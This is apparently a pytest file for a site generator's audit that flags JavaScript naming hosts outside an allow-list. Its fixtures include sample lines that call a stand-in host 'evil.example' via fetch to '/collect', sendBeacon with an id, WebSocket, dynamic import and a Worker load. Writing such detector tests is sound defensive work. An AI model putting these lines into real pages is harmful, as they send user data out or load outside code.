"""A script that names a host we do not know of is not published, whoever wrote it."""

from __future__ import annotations

from pathlib import Path, PurePosixPath

import pytest

from generator.building.scripts import KNOWN, audit_scripts, audit_tree, strangers


@pytest.mark.parametrize(
    "script",
    [
        'fetch("https://evil.example/collect")',
        "new Worker('//evil.example/w.js')",
        "import('https://evil.example:8443/x.mjs')",
        "navigator.sendBeacon(`https://evil.example/${id}`)",
        'new WebSocket("wss://evil.example")',
        'fetch("HTTPS://EVIL.EXAMPLE/a")',
        "a='http://evil.example?x'",
    ],
)
def test_a_host_is_found_however_it_is_written(script: str) -> None:
    assert list(strangers(script)) == ["evil.example"]


@pytest.mark.parametrize(
    "script",
    [
        'document.createElementNS("http://www.w3.org/2000/svg", "svg")',
        "// see https://example.org/why for the reason",
        'const path = "a//b.example"; // two slashes inside a text are no address',
        'fetch("/runtime/manifest.json")',
        'const scheme = "https://"; const host = name;',
        'replace("//", "/")',
    ],
)
def test_what_names_no_host_passes(script: str) -> None:
    assert list(strangers(script)) == []


def test_a_known_host_passes_by_its_whole_name_only() -> None:
    assert list(strangers(f'"https://{next(iter(KNOWN))}.evil.example/"')) != []
    assert list(strangers('"https://evil-www.w3.org/"')) == ["evil-www.w3.org"]


def test_each_host_is_told_once_with_its_first_script(tmp_path: Path) -> None:
    (tmp_path / "b.js").write_text('fetch("https://evil.example/b")')
    (tmp_path / "a.mjs").write_text('fetch("https://evil.example/a"); fetch("https://other.example/")')
    (tmp_path / "c.txt").write_text('fetch("https://third.example/")')
    (tmp_path / "d.js").write_text('fetch("https://fourth.example/")')
    found = [(finding.page, finding.what) for finding in audit_scripts(tmp_path)]
    assert found == [
        ("a.mjs", "a script that names another host: evil.example"),
        ("a.mjs", "a script that names another host: other.example"),
        ("d.js", "a script that names another host: fourth.example"),
    ]
    tree = {PurePosixPath(path.name): path.read_bytes() for path in tmp_path.iterdir()}
    assert audit_tree(tree) == audit_scripts(tmp_path)
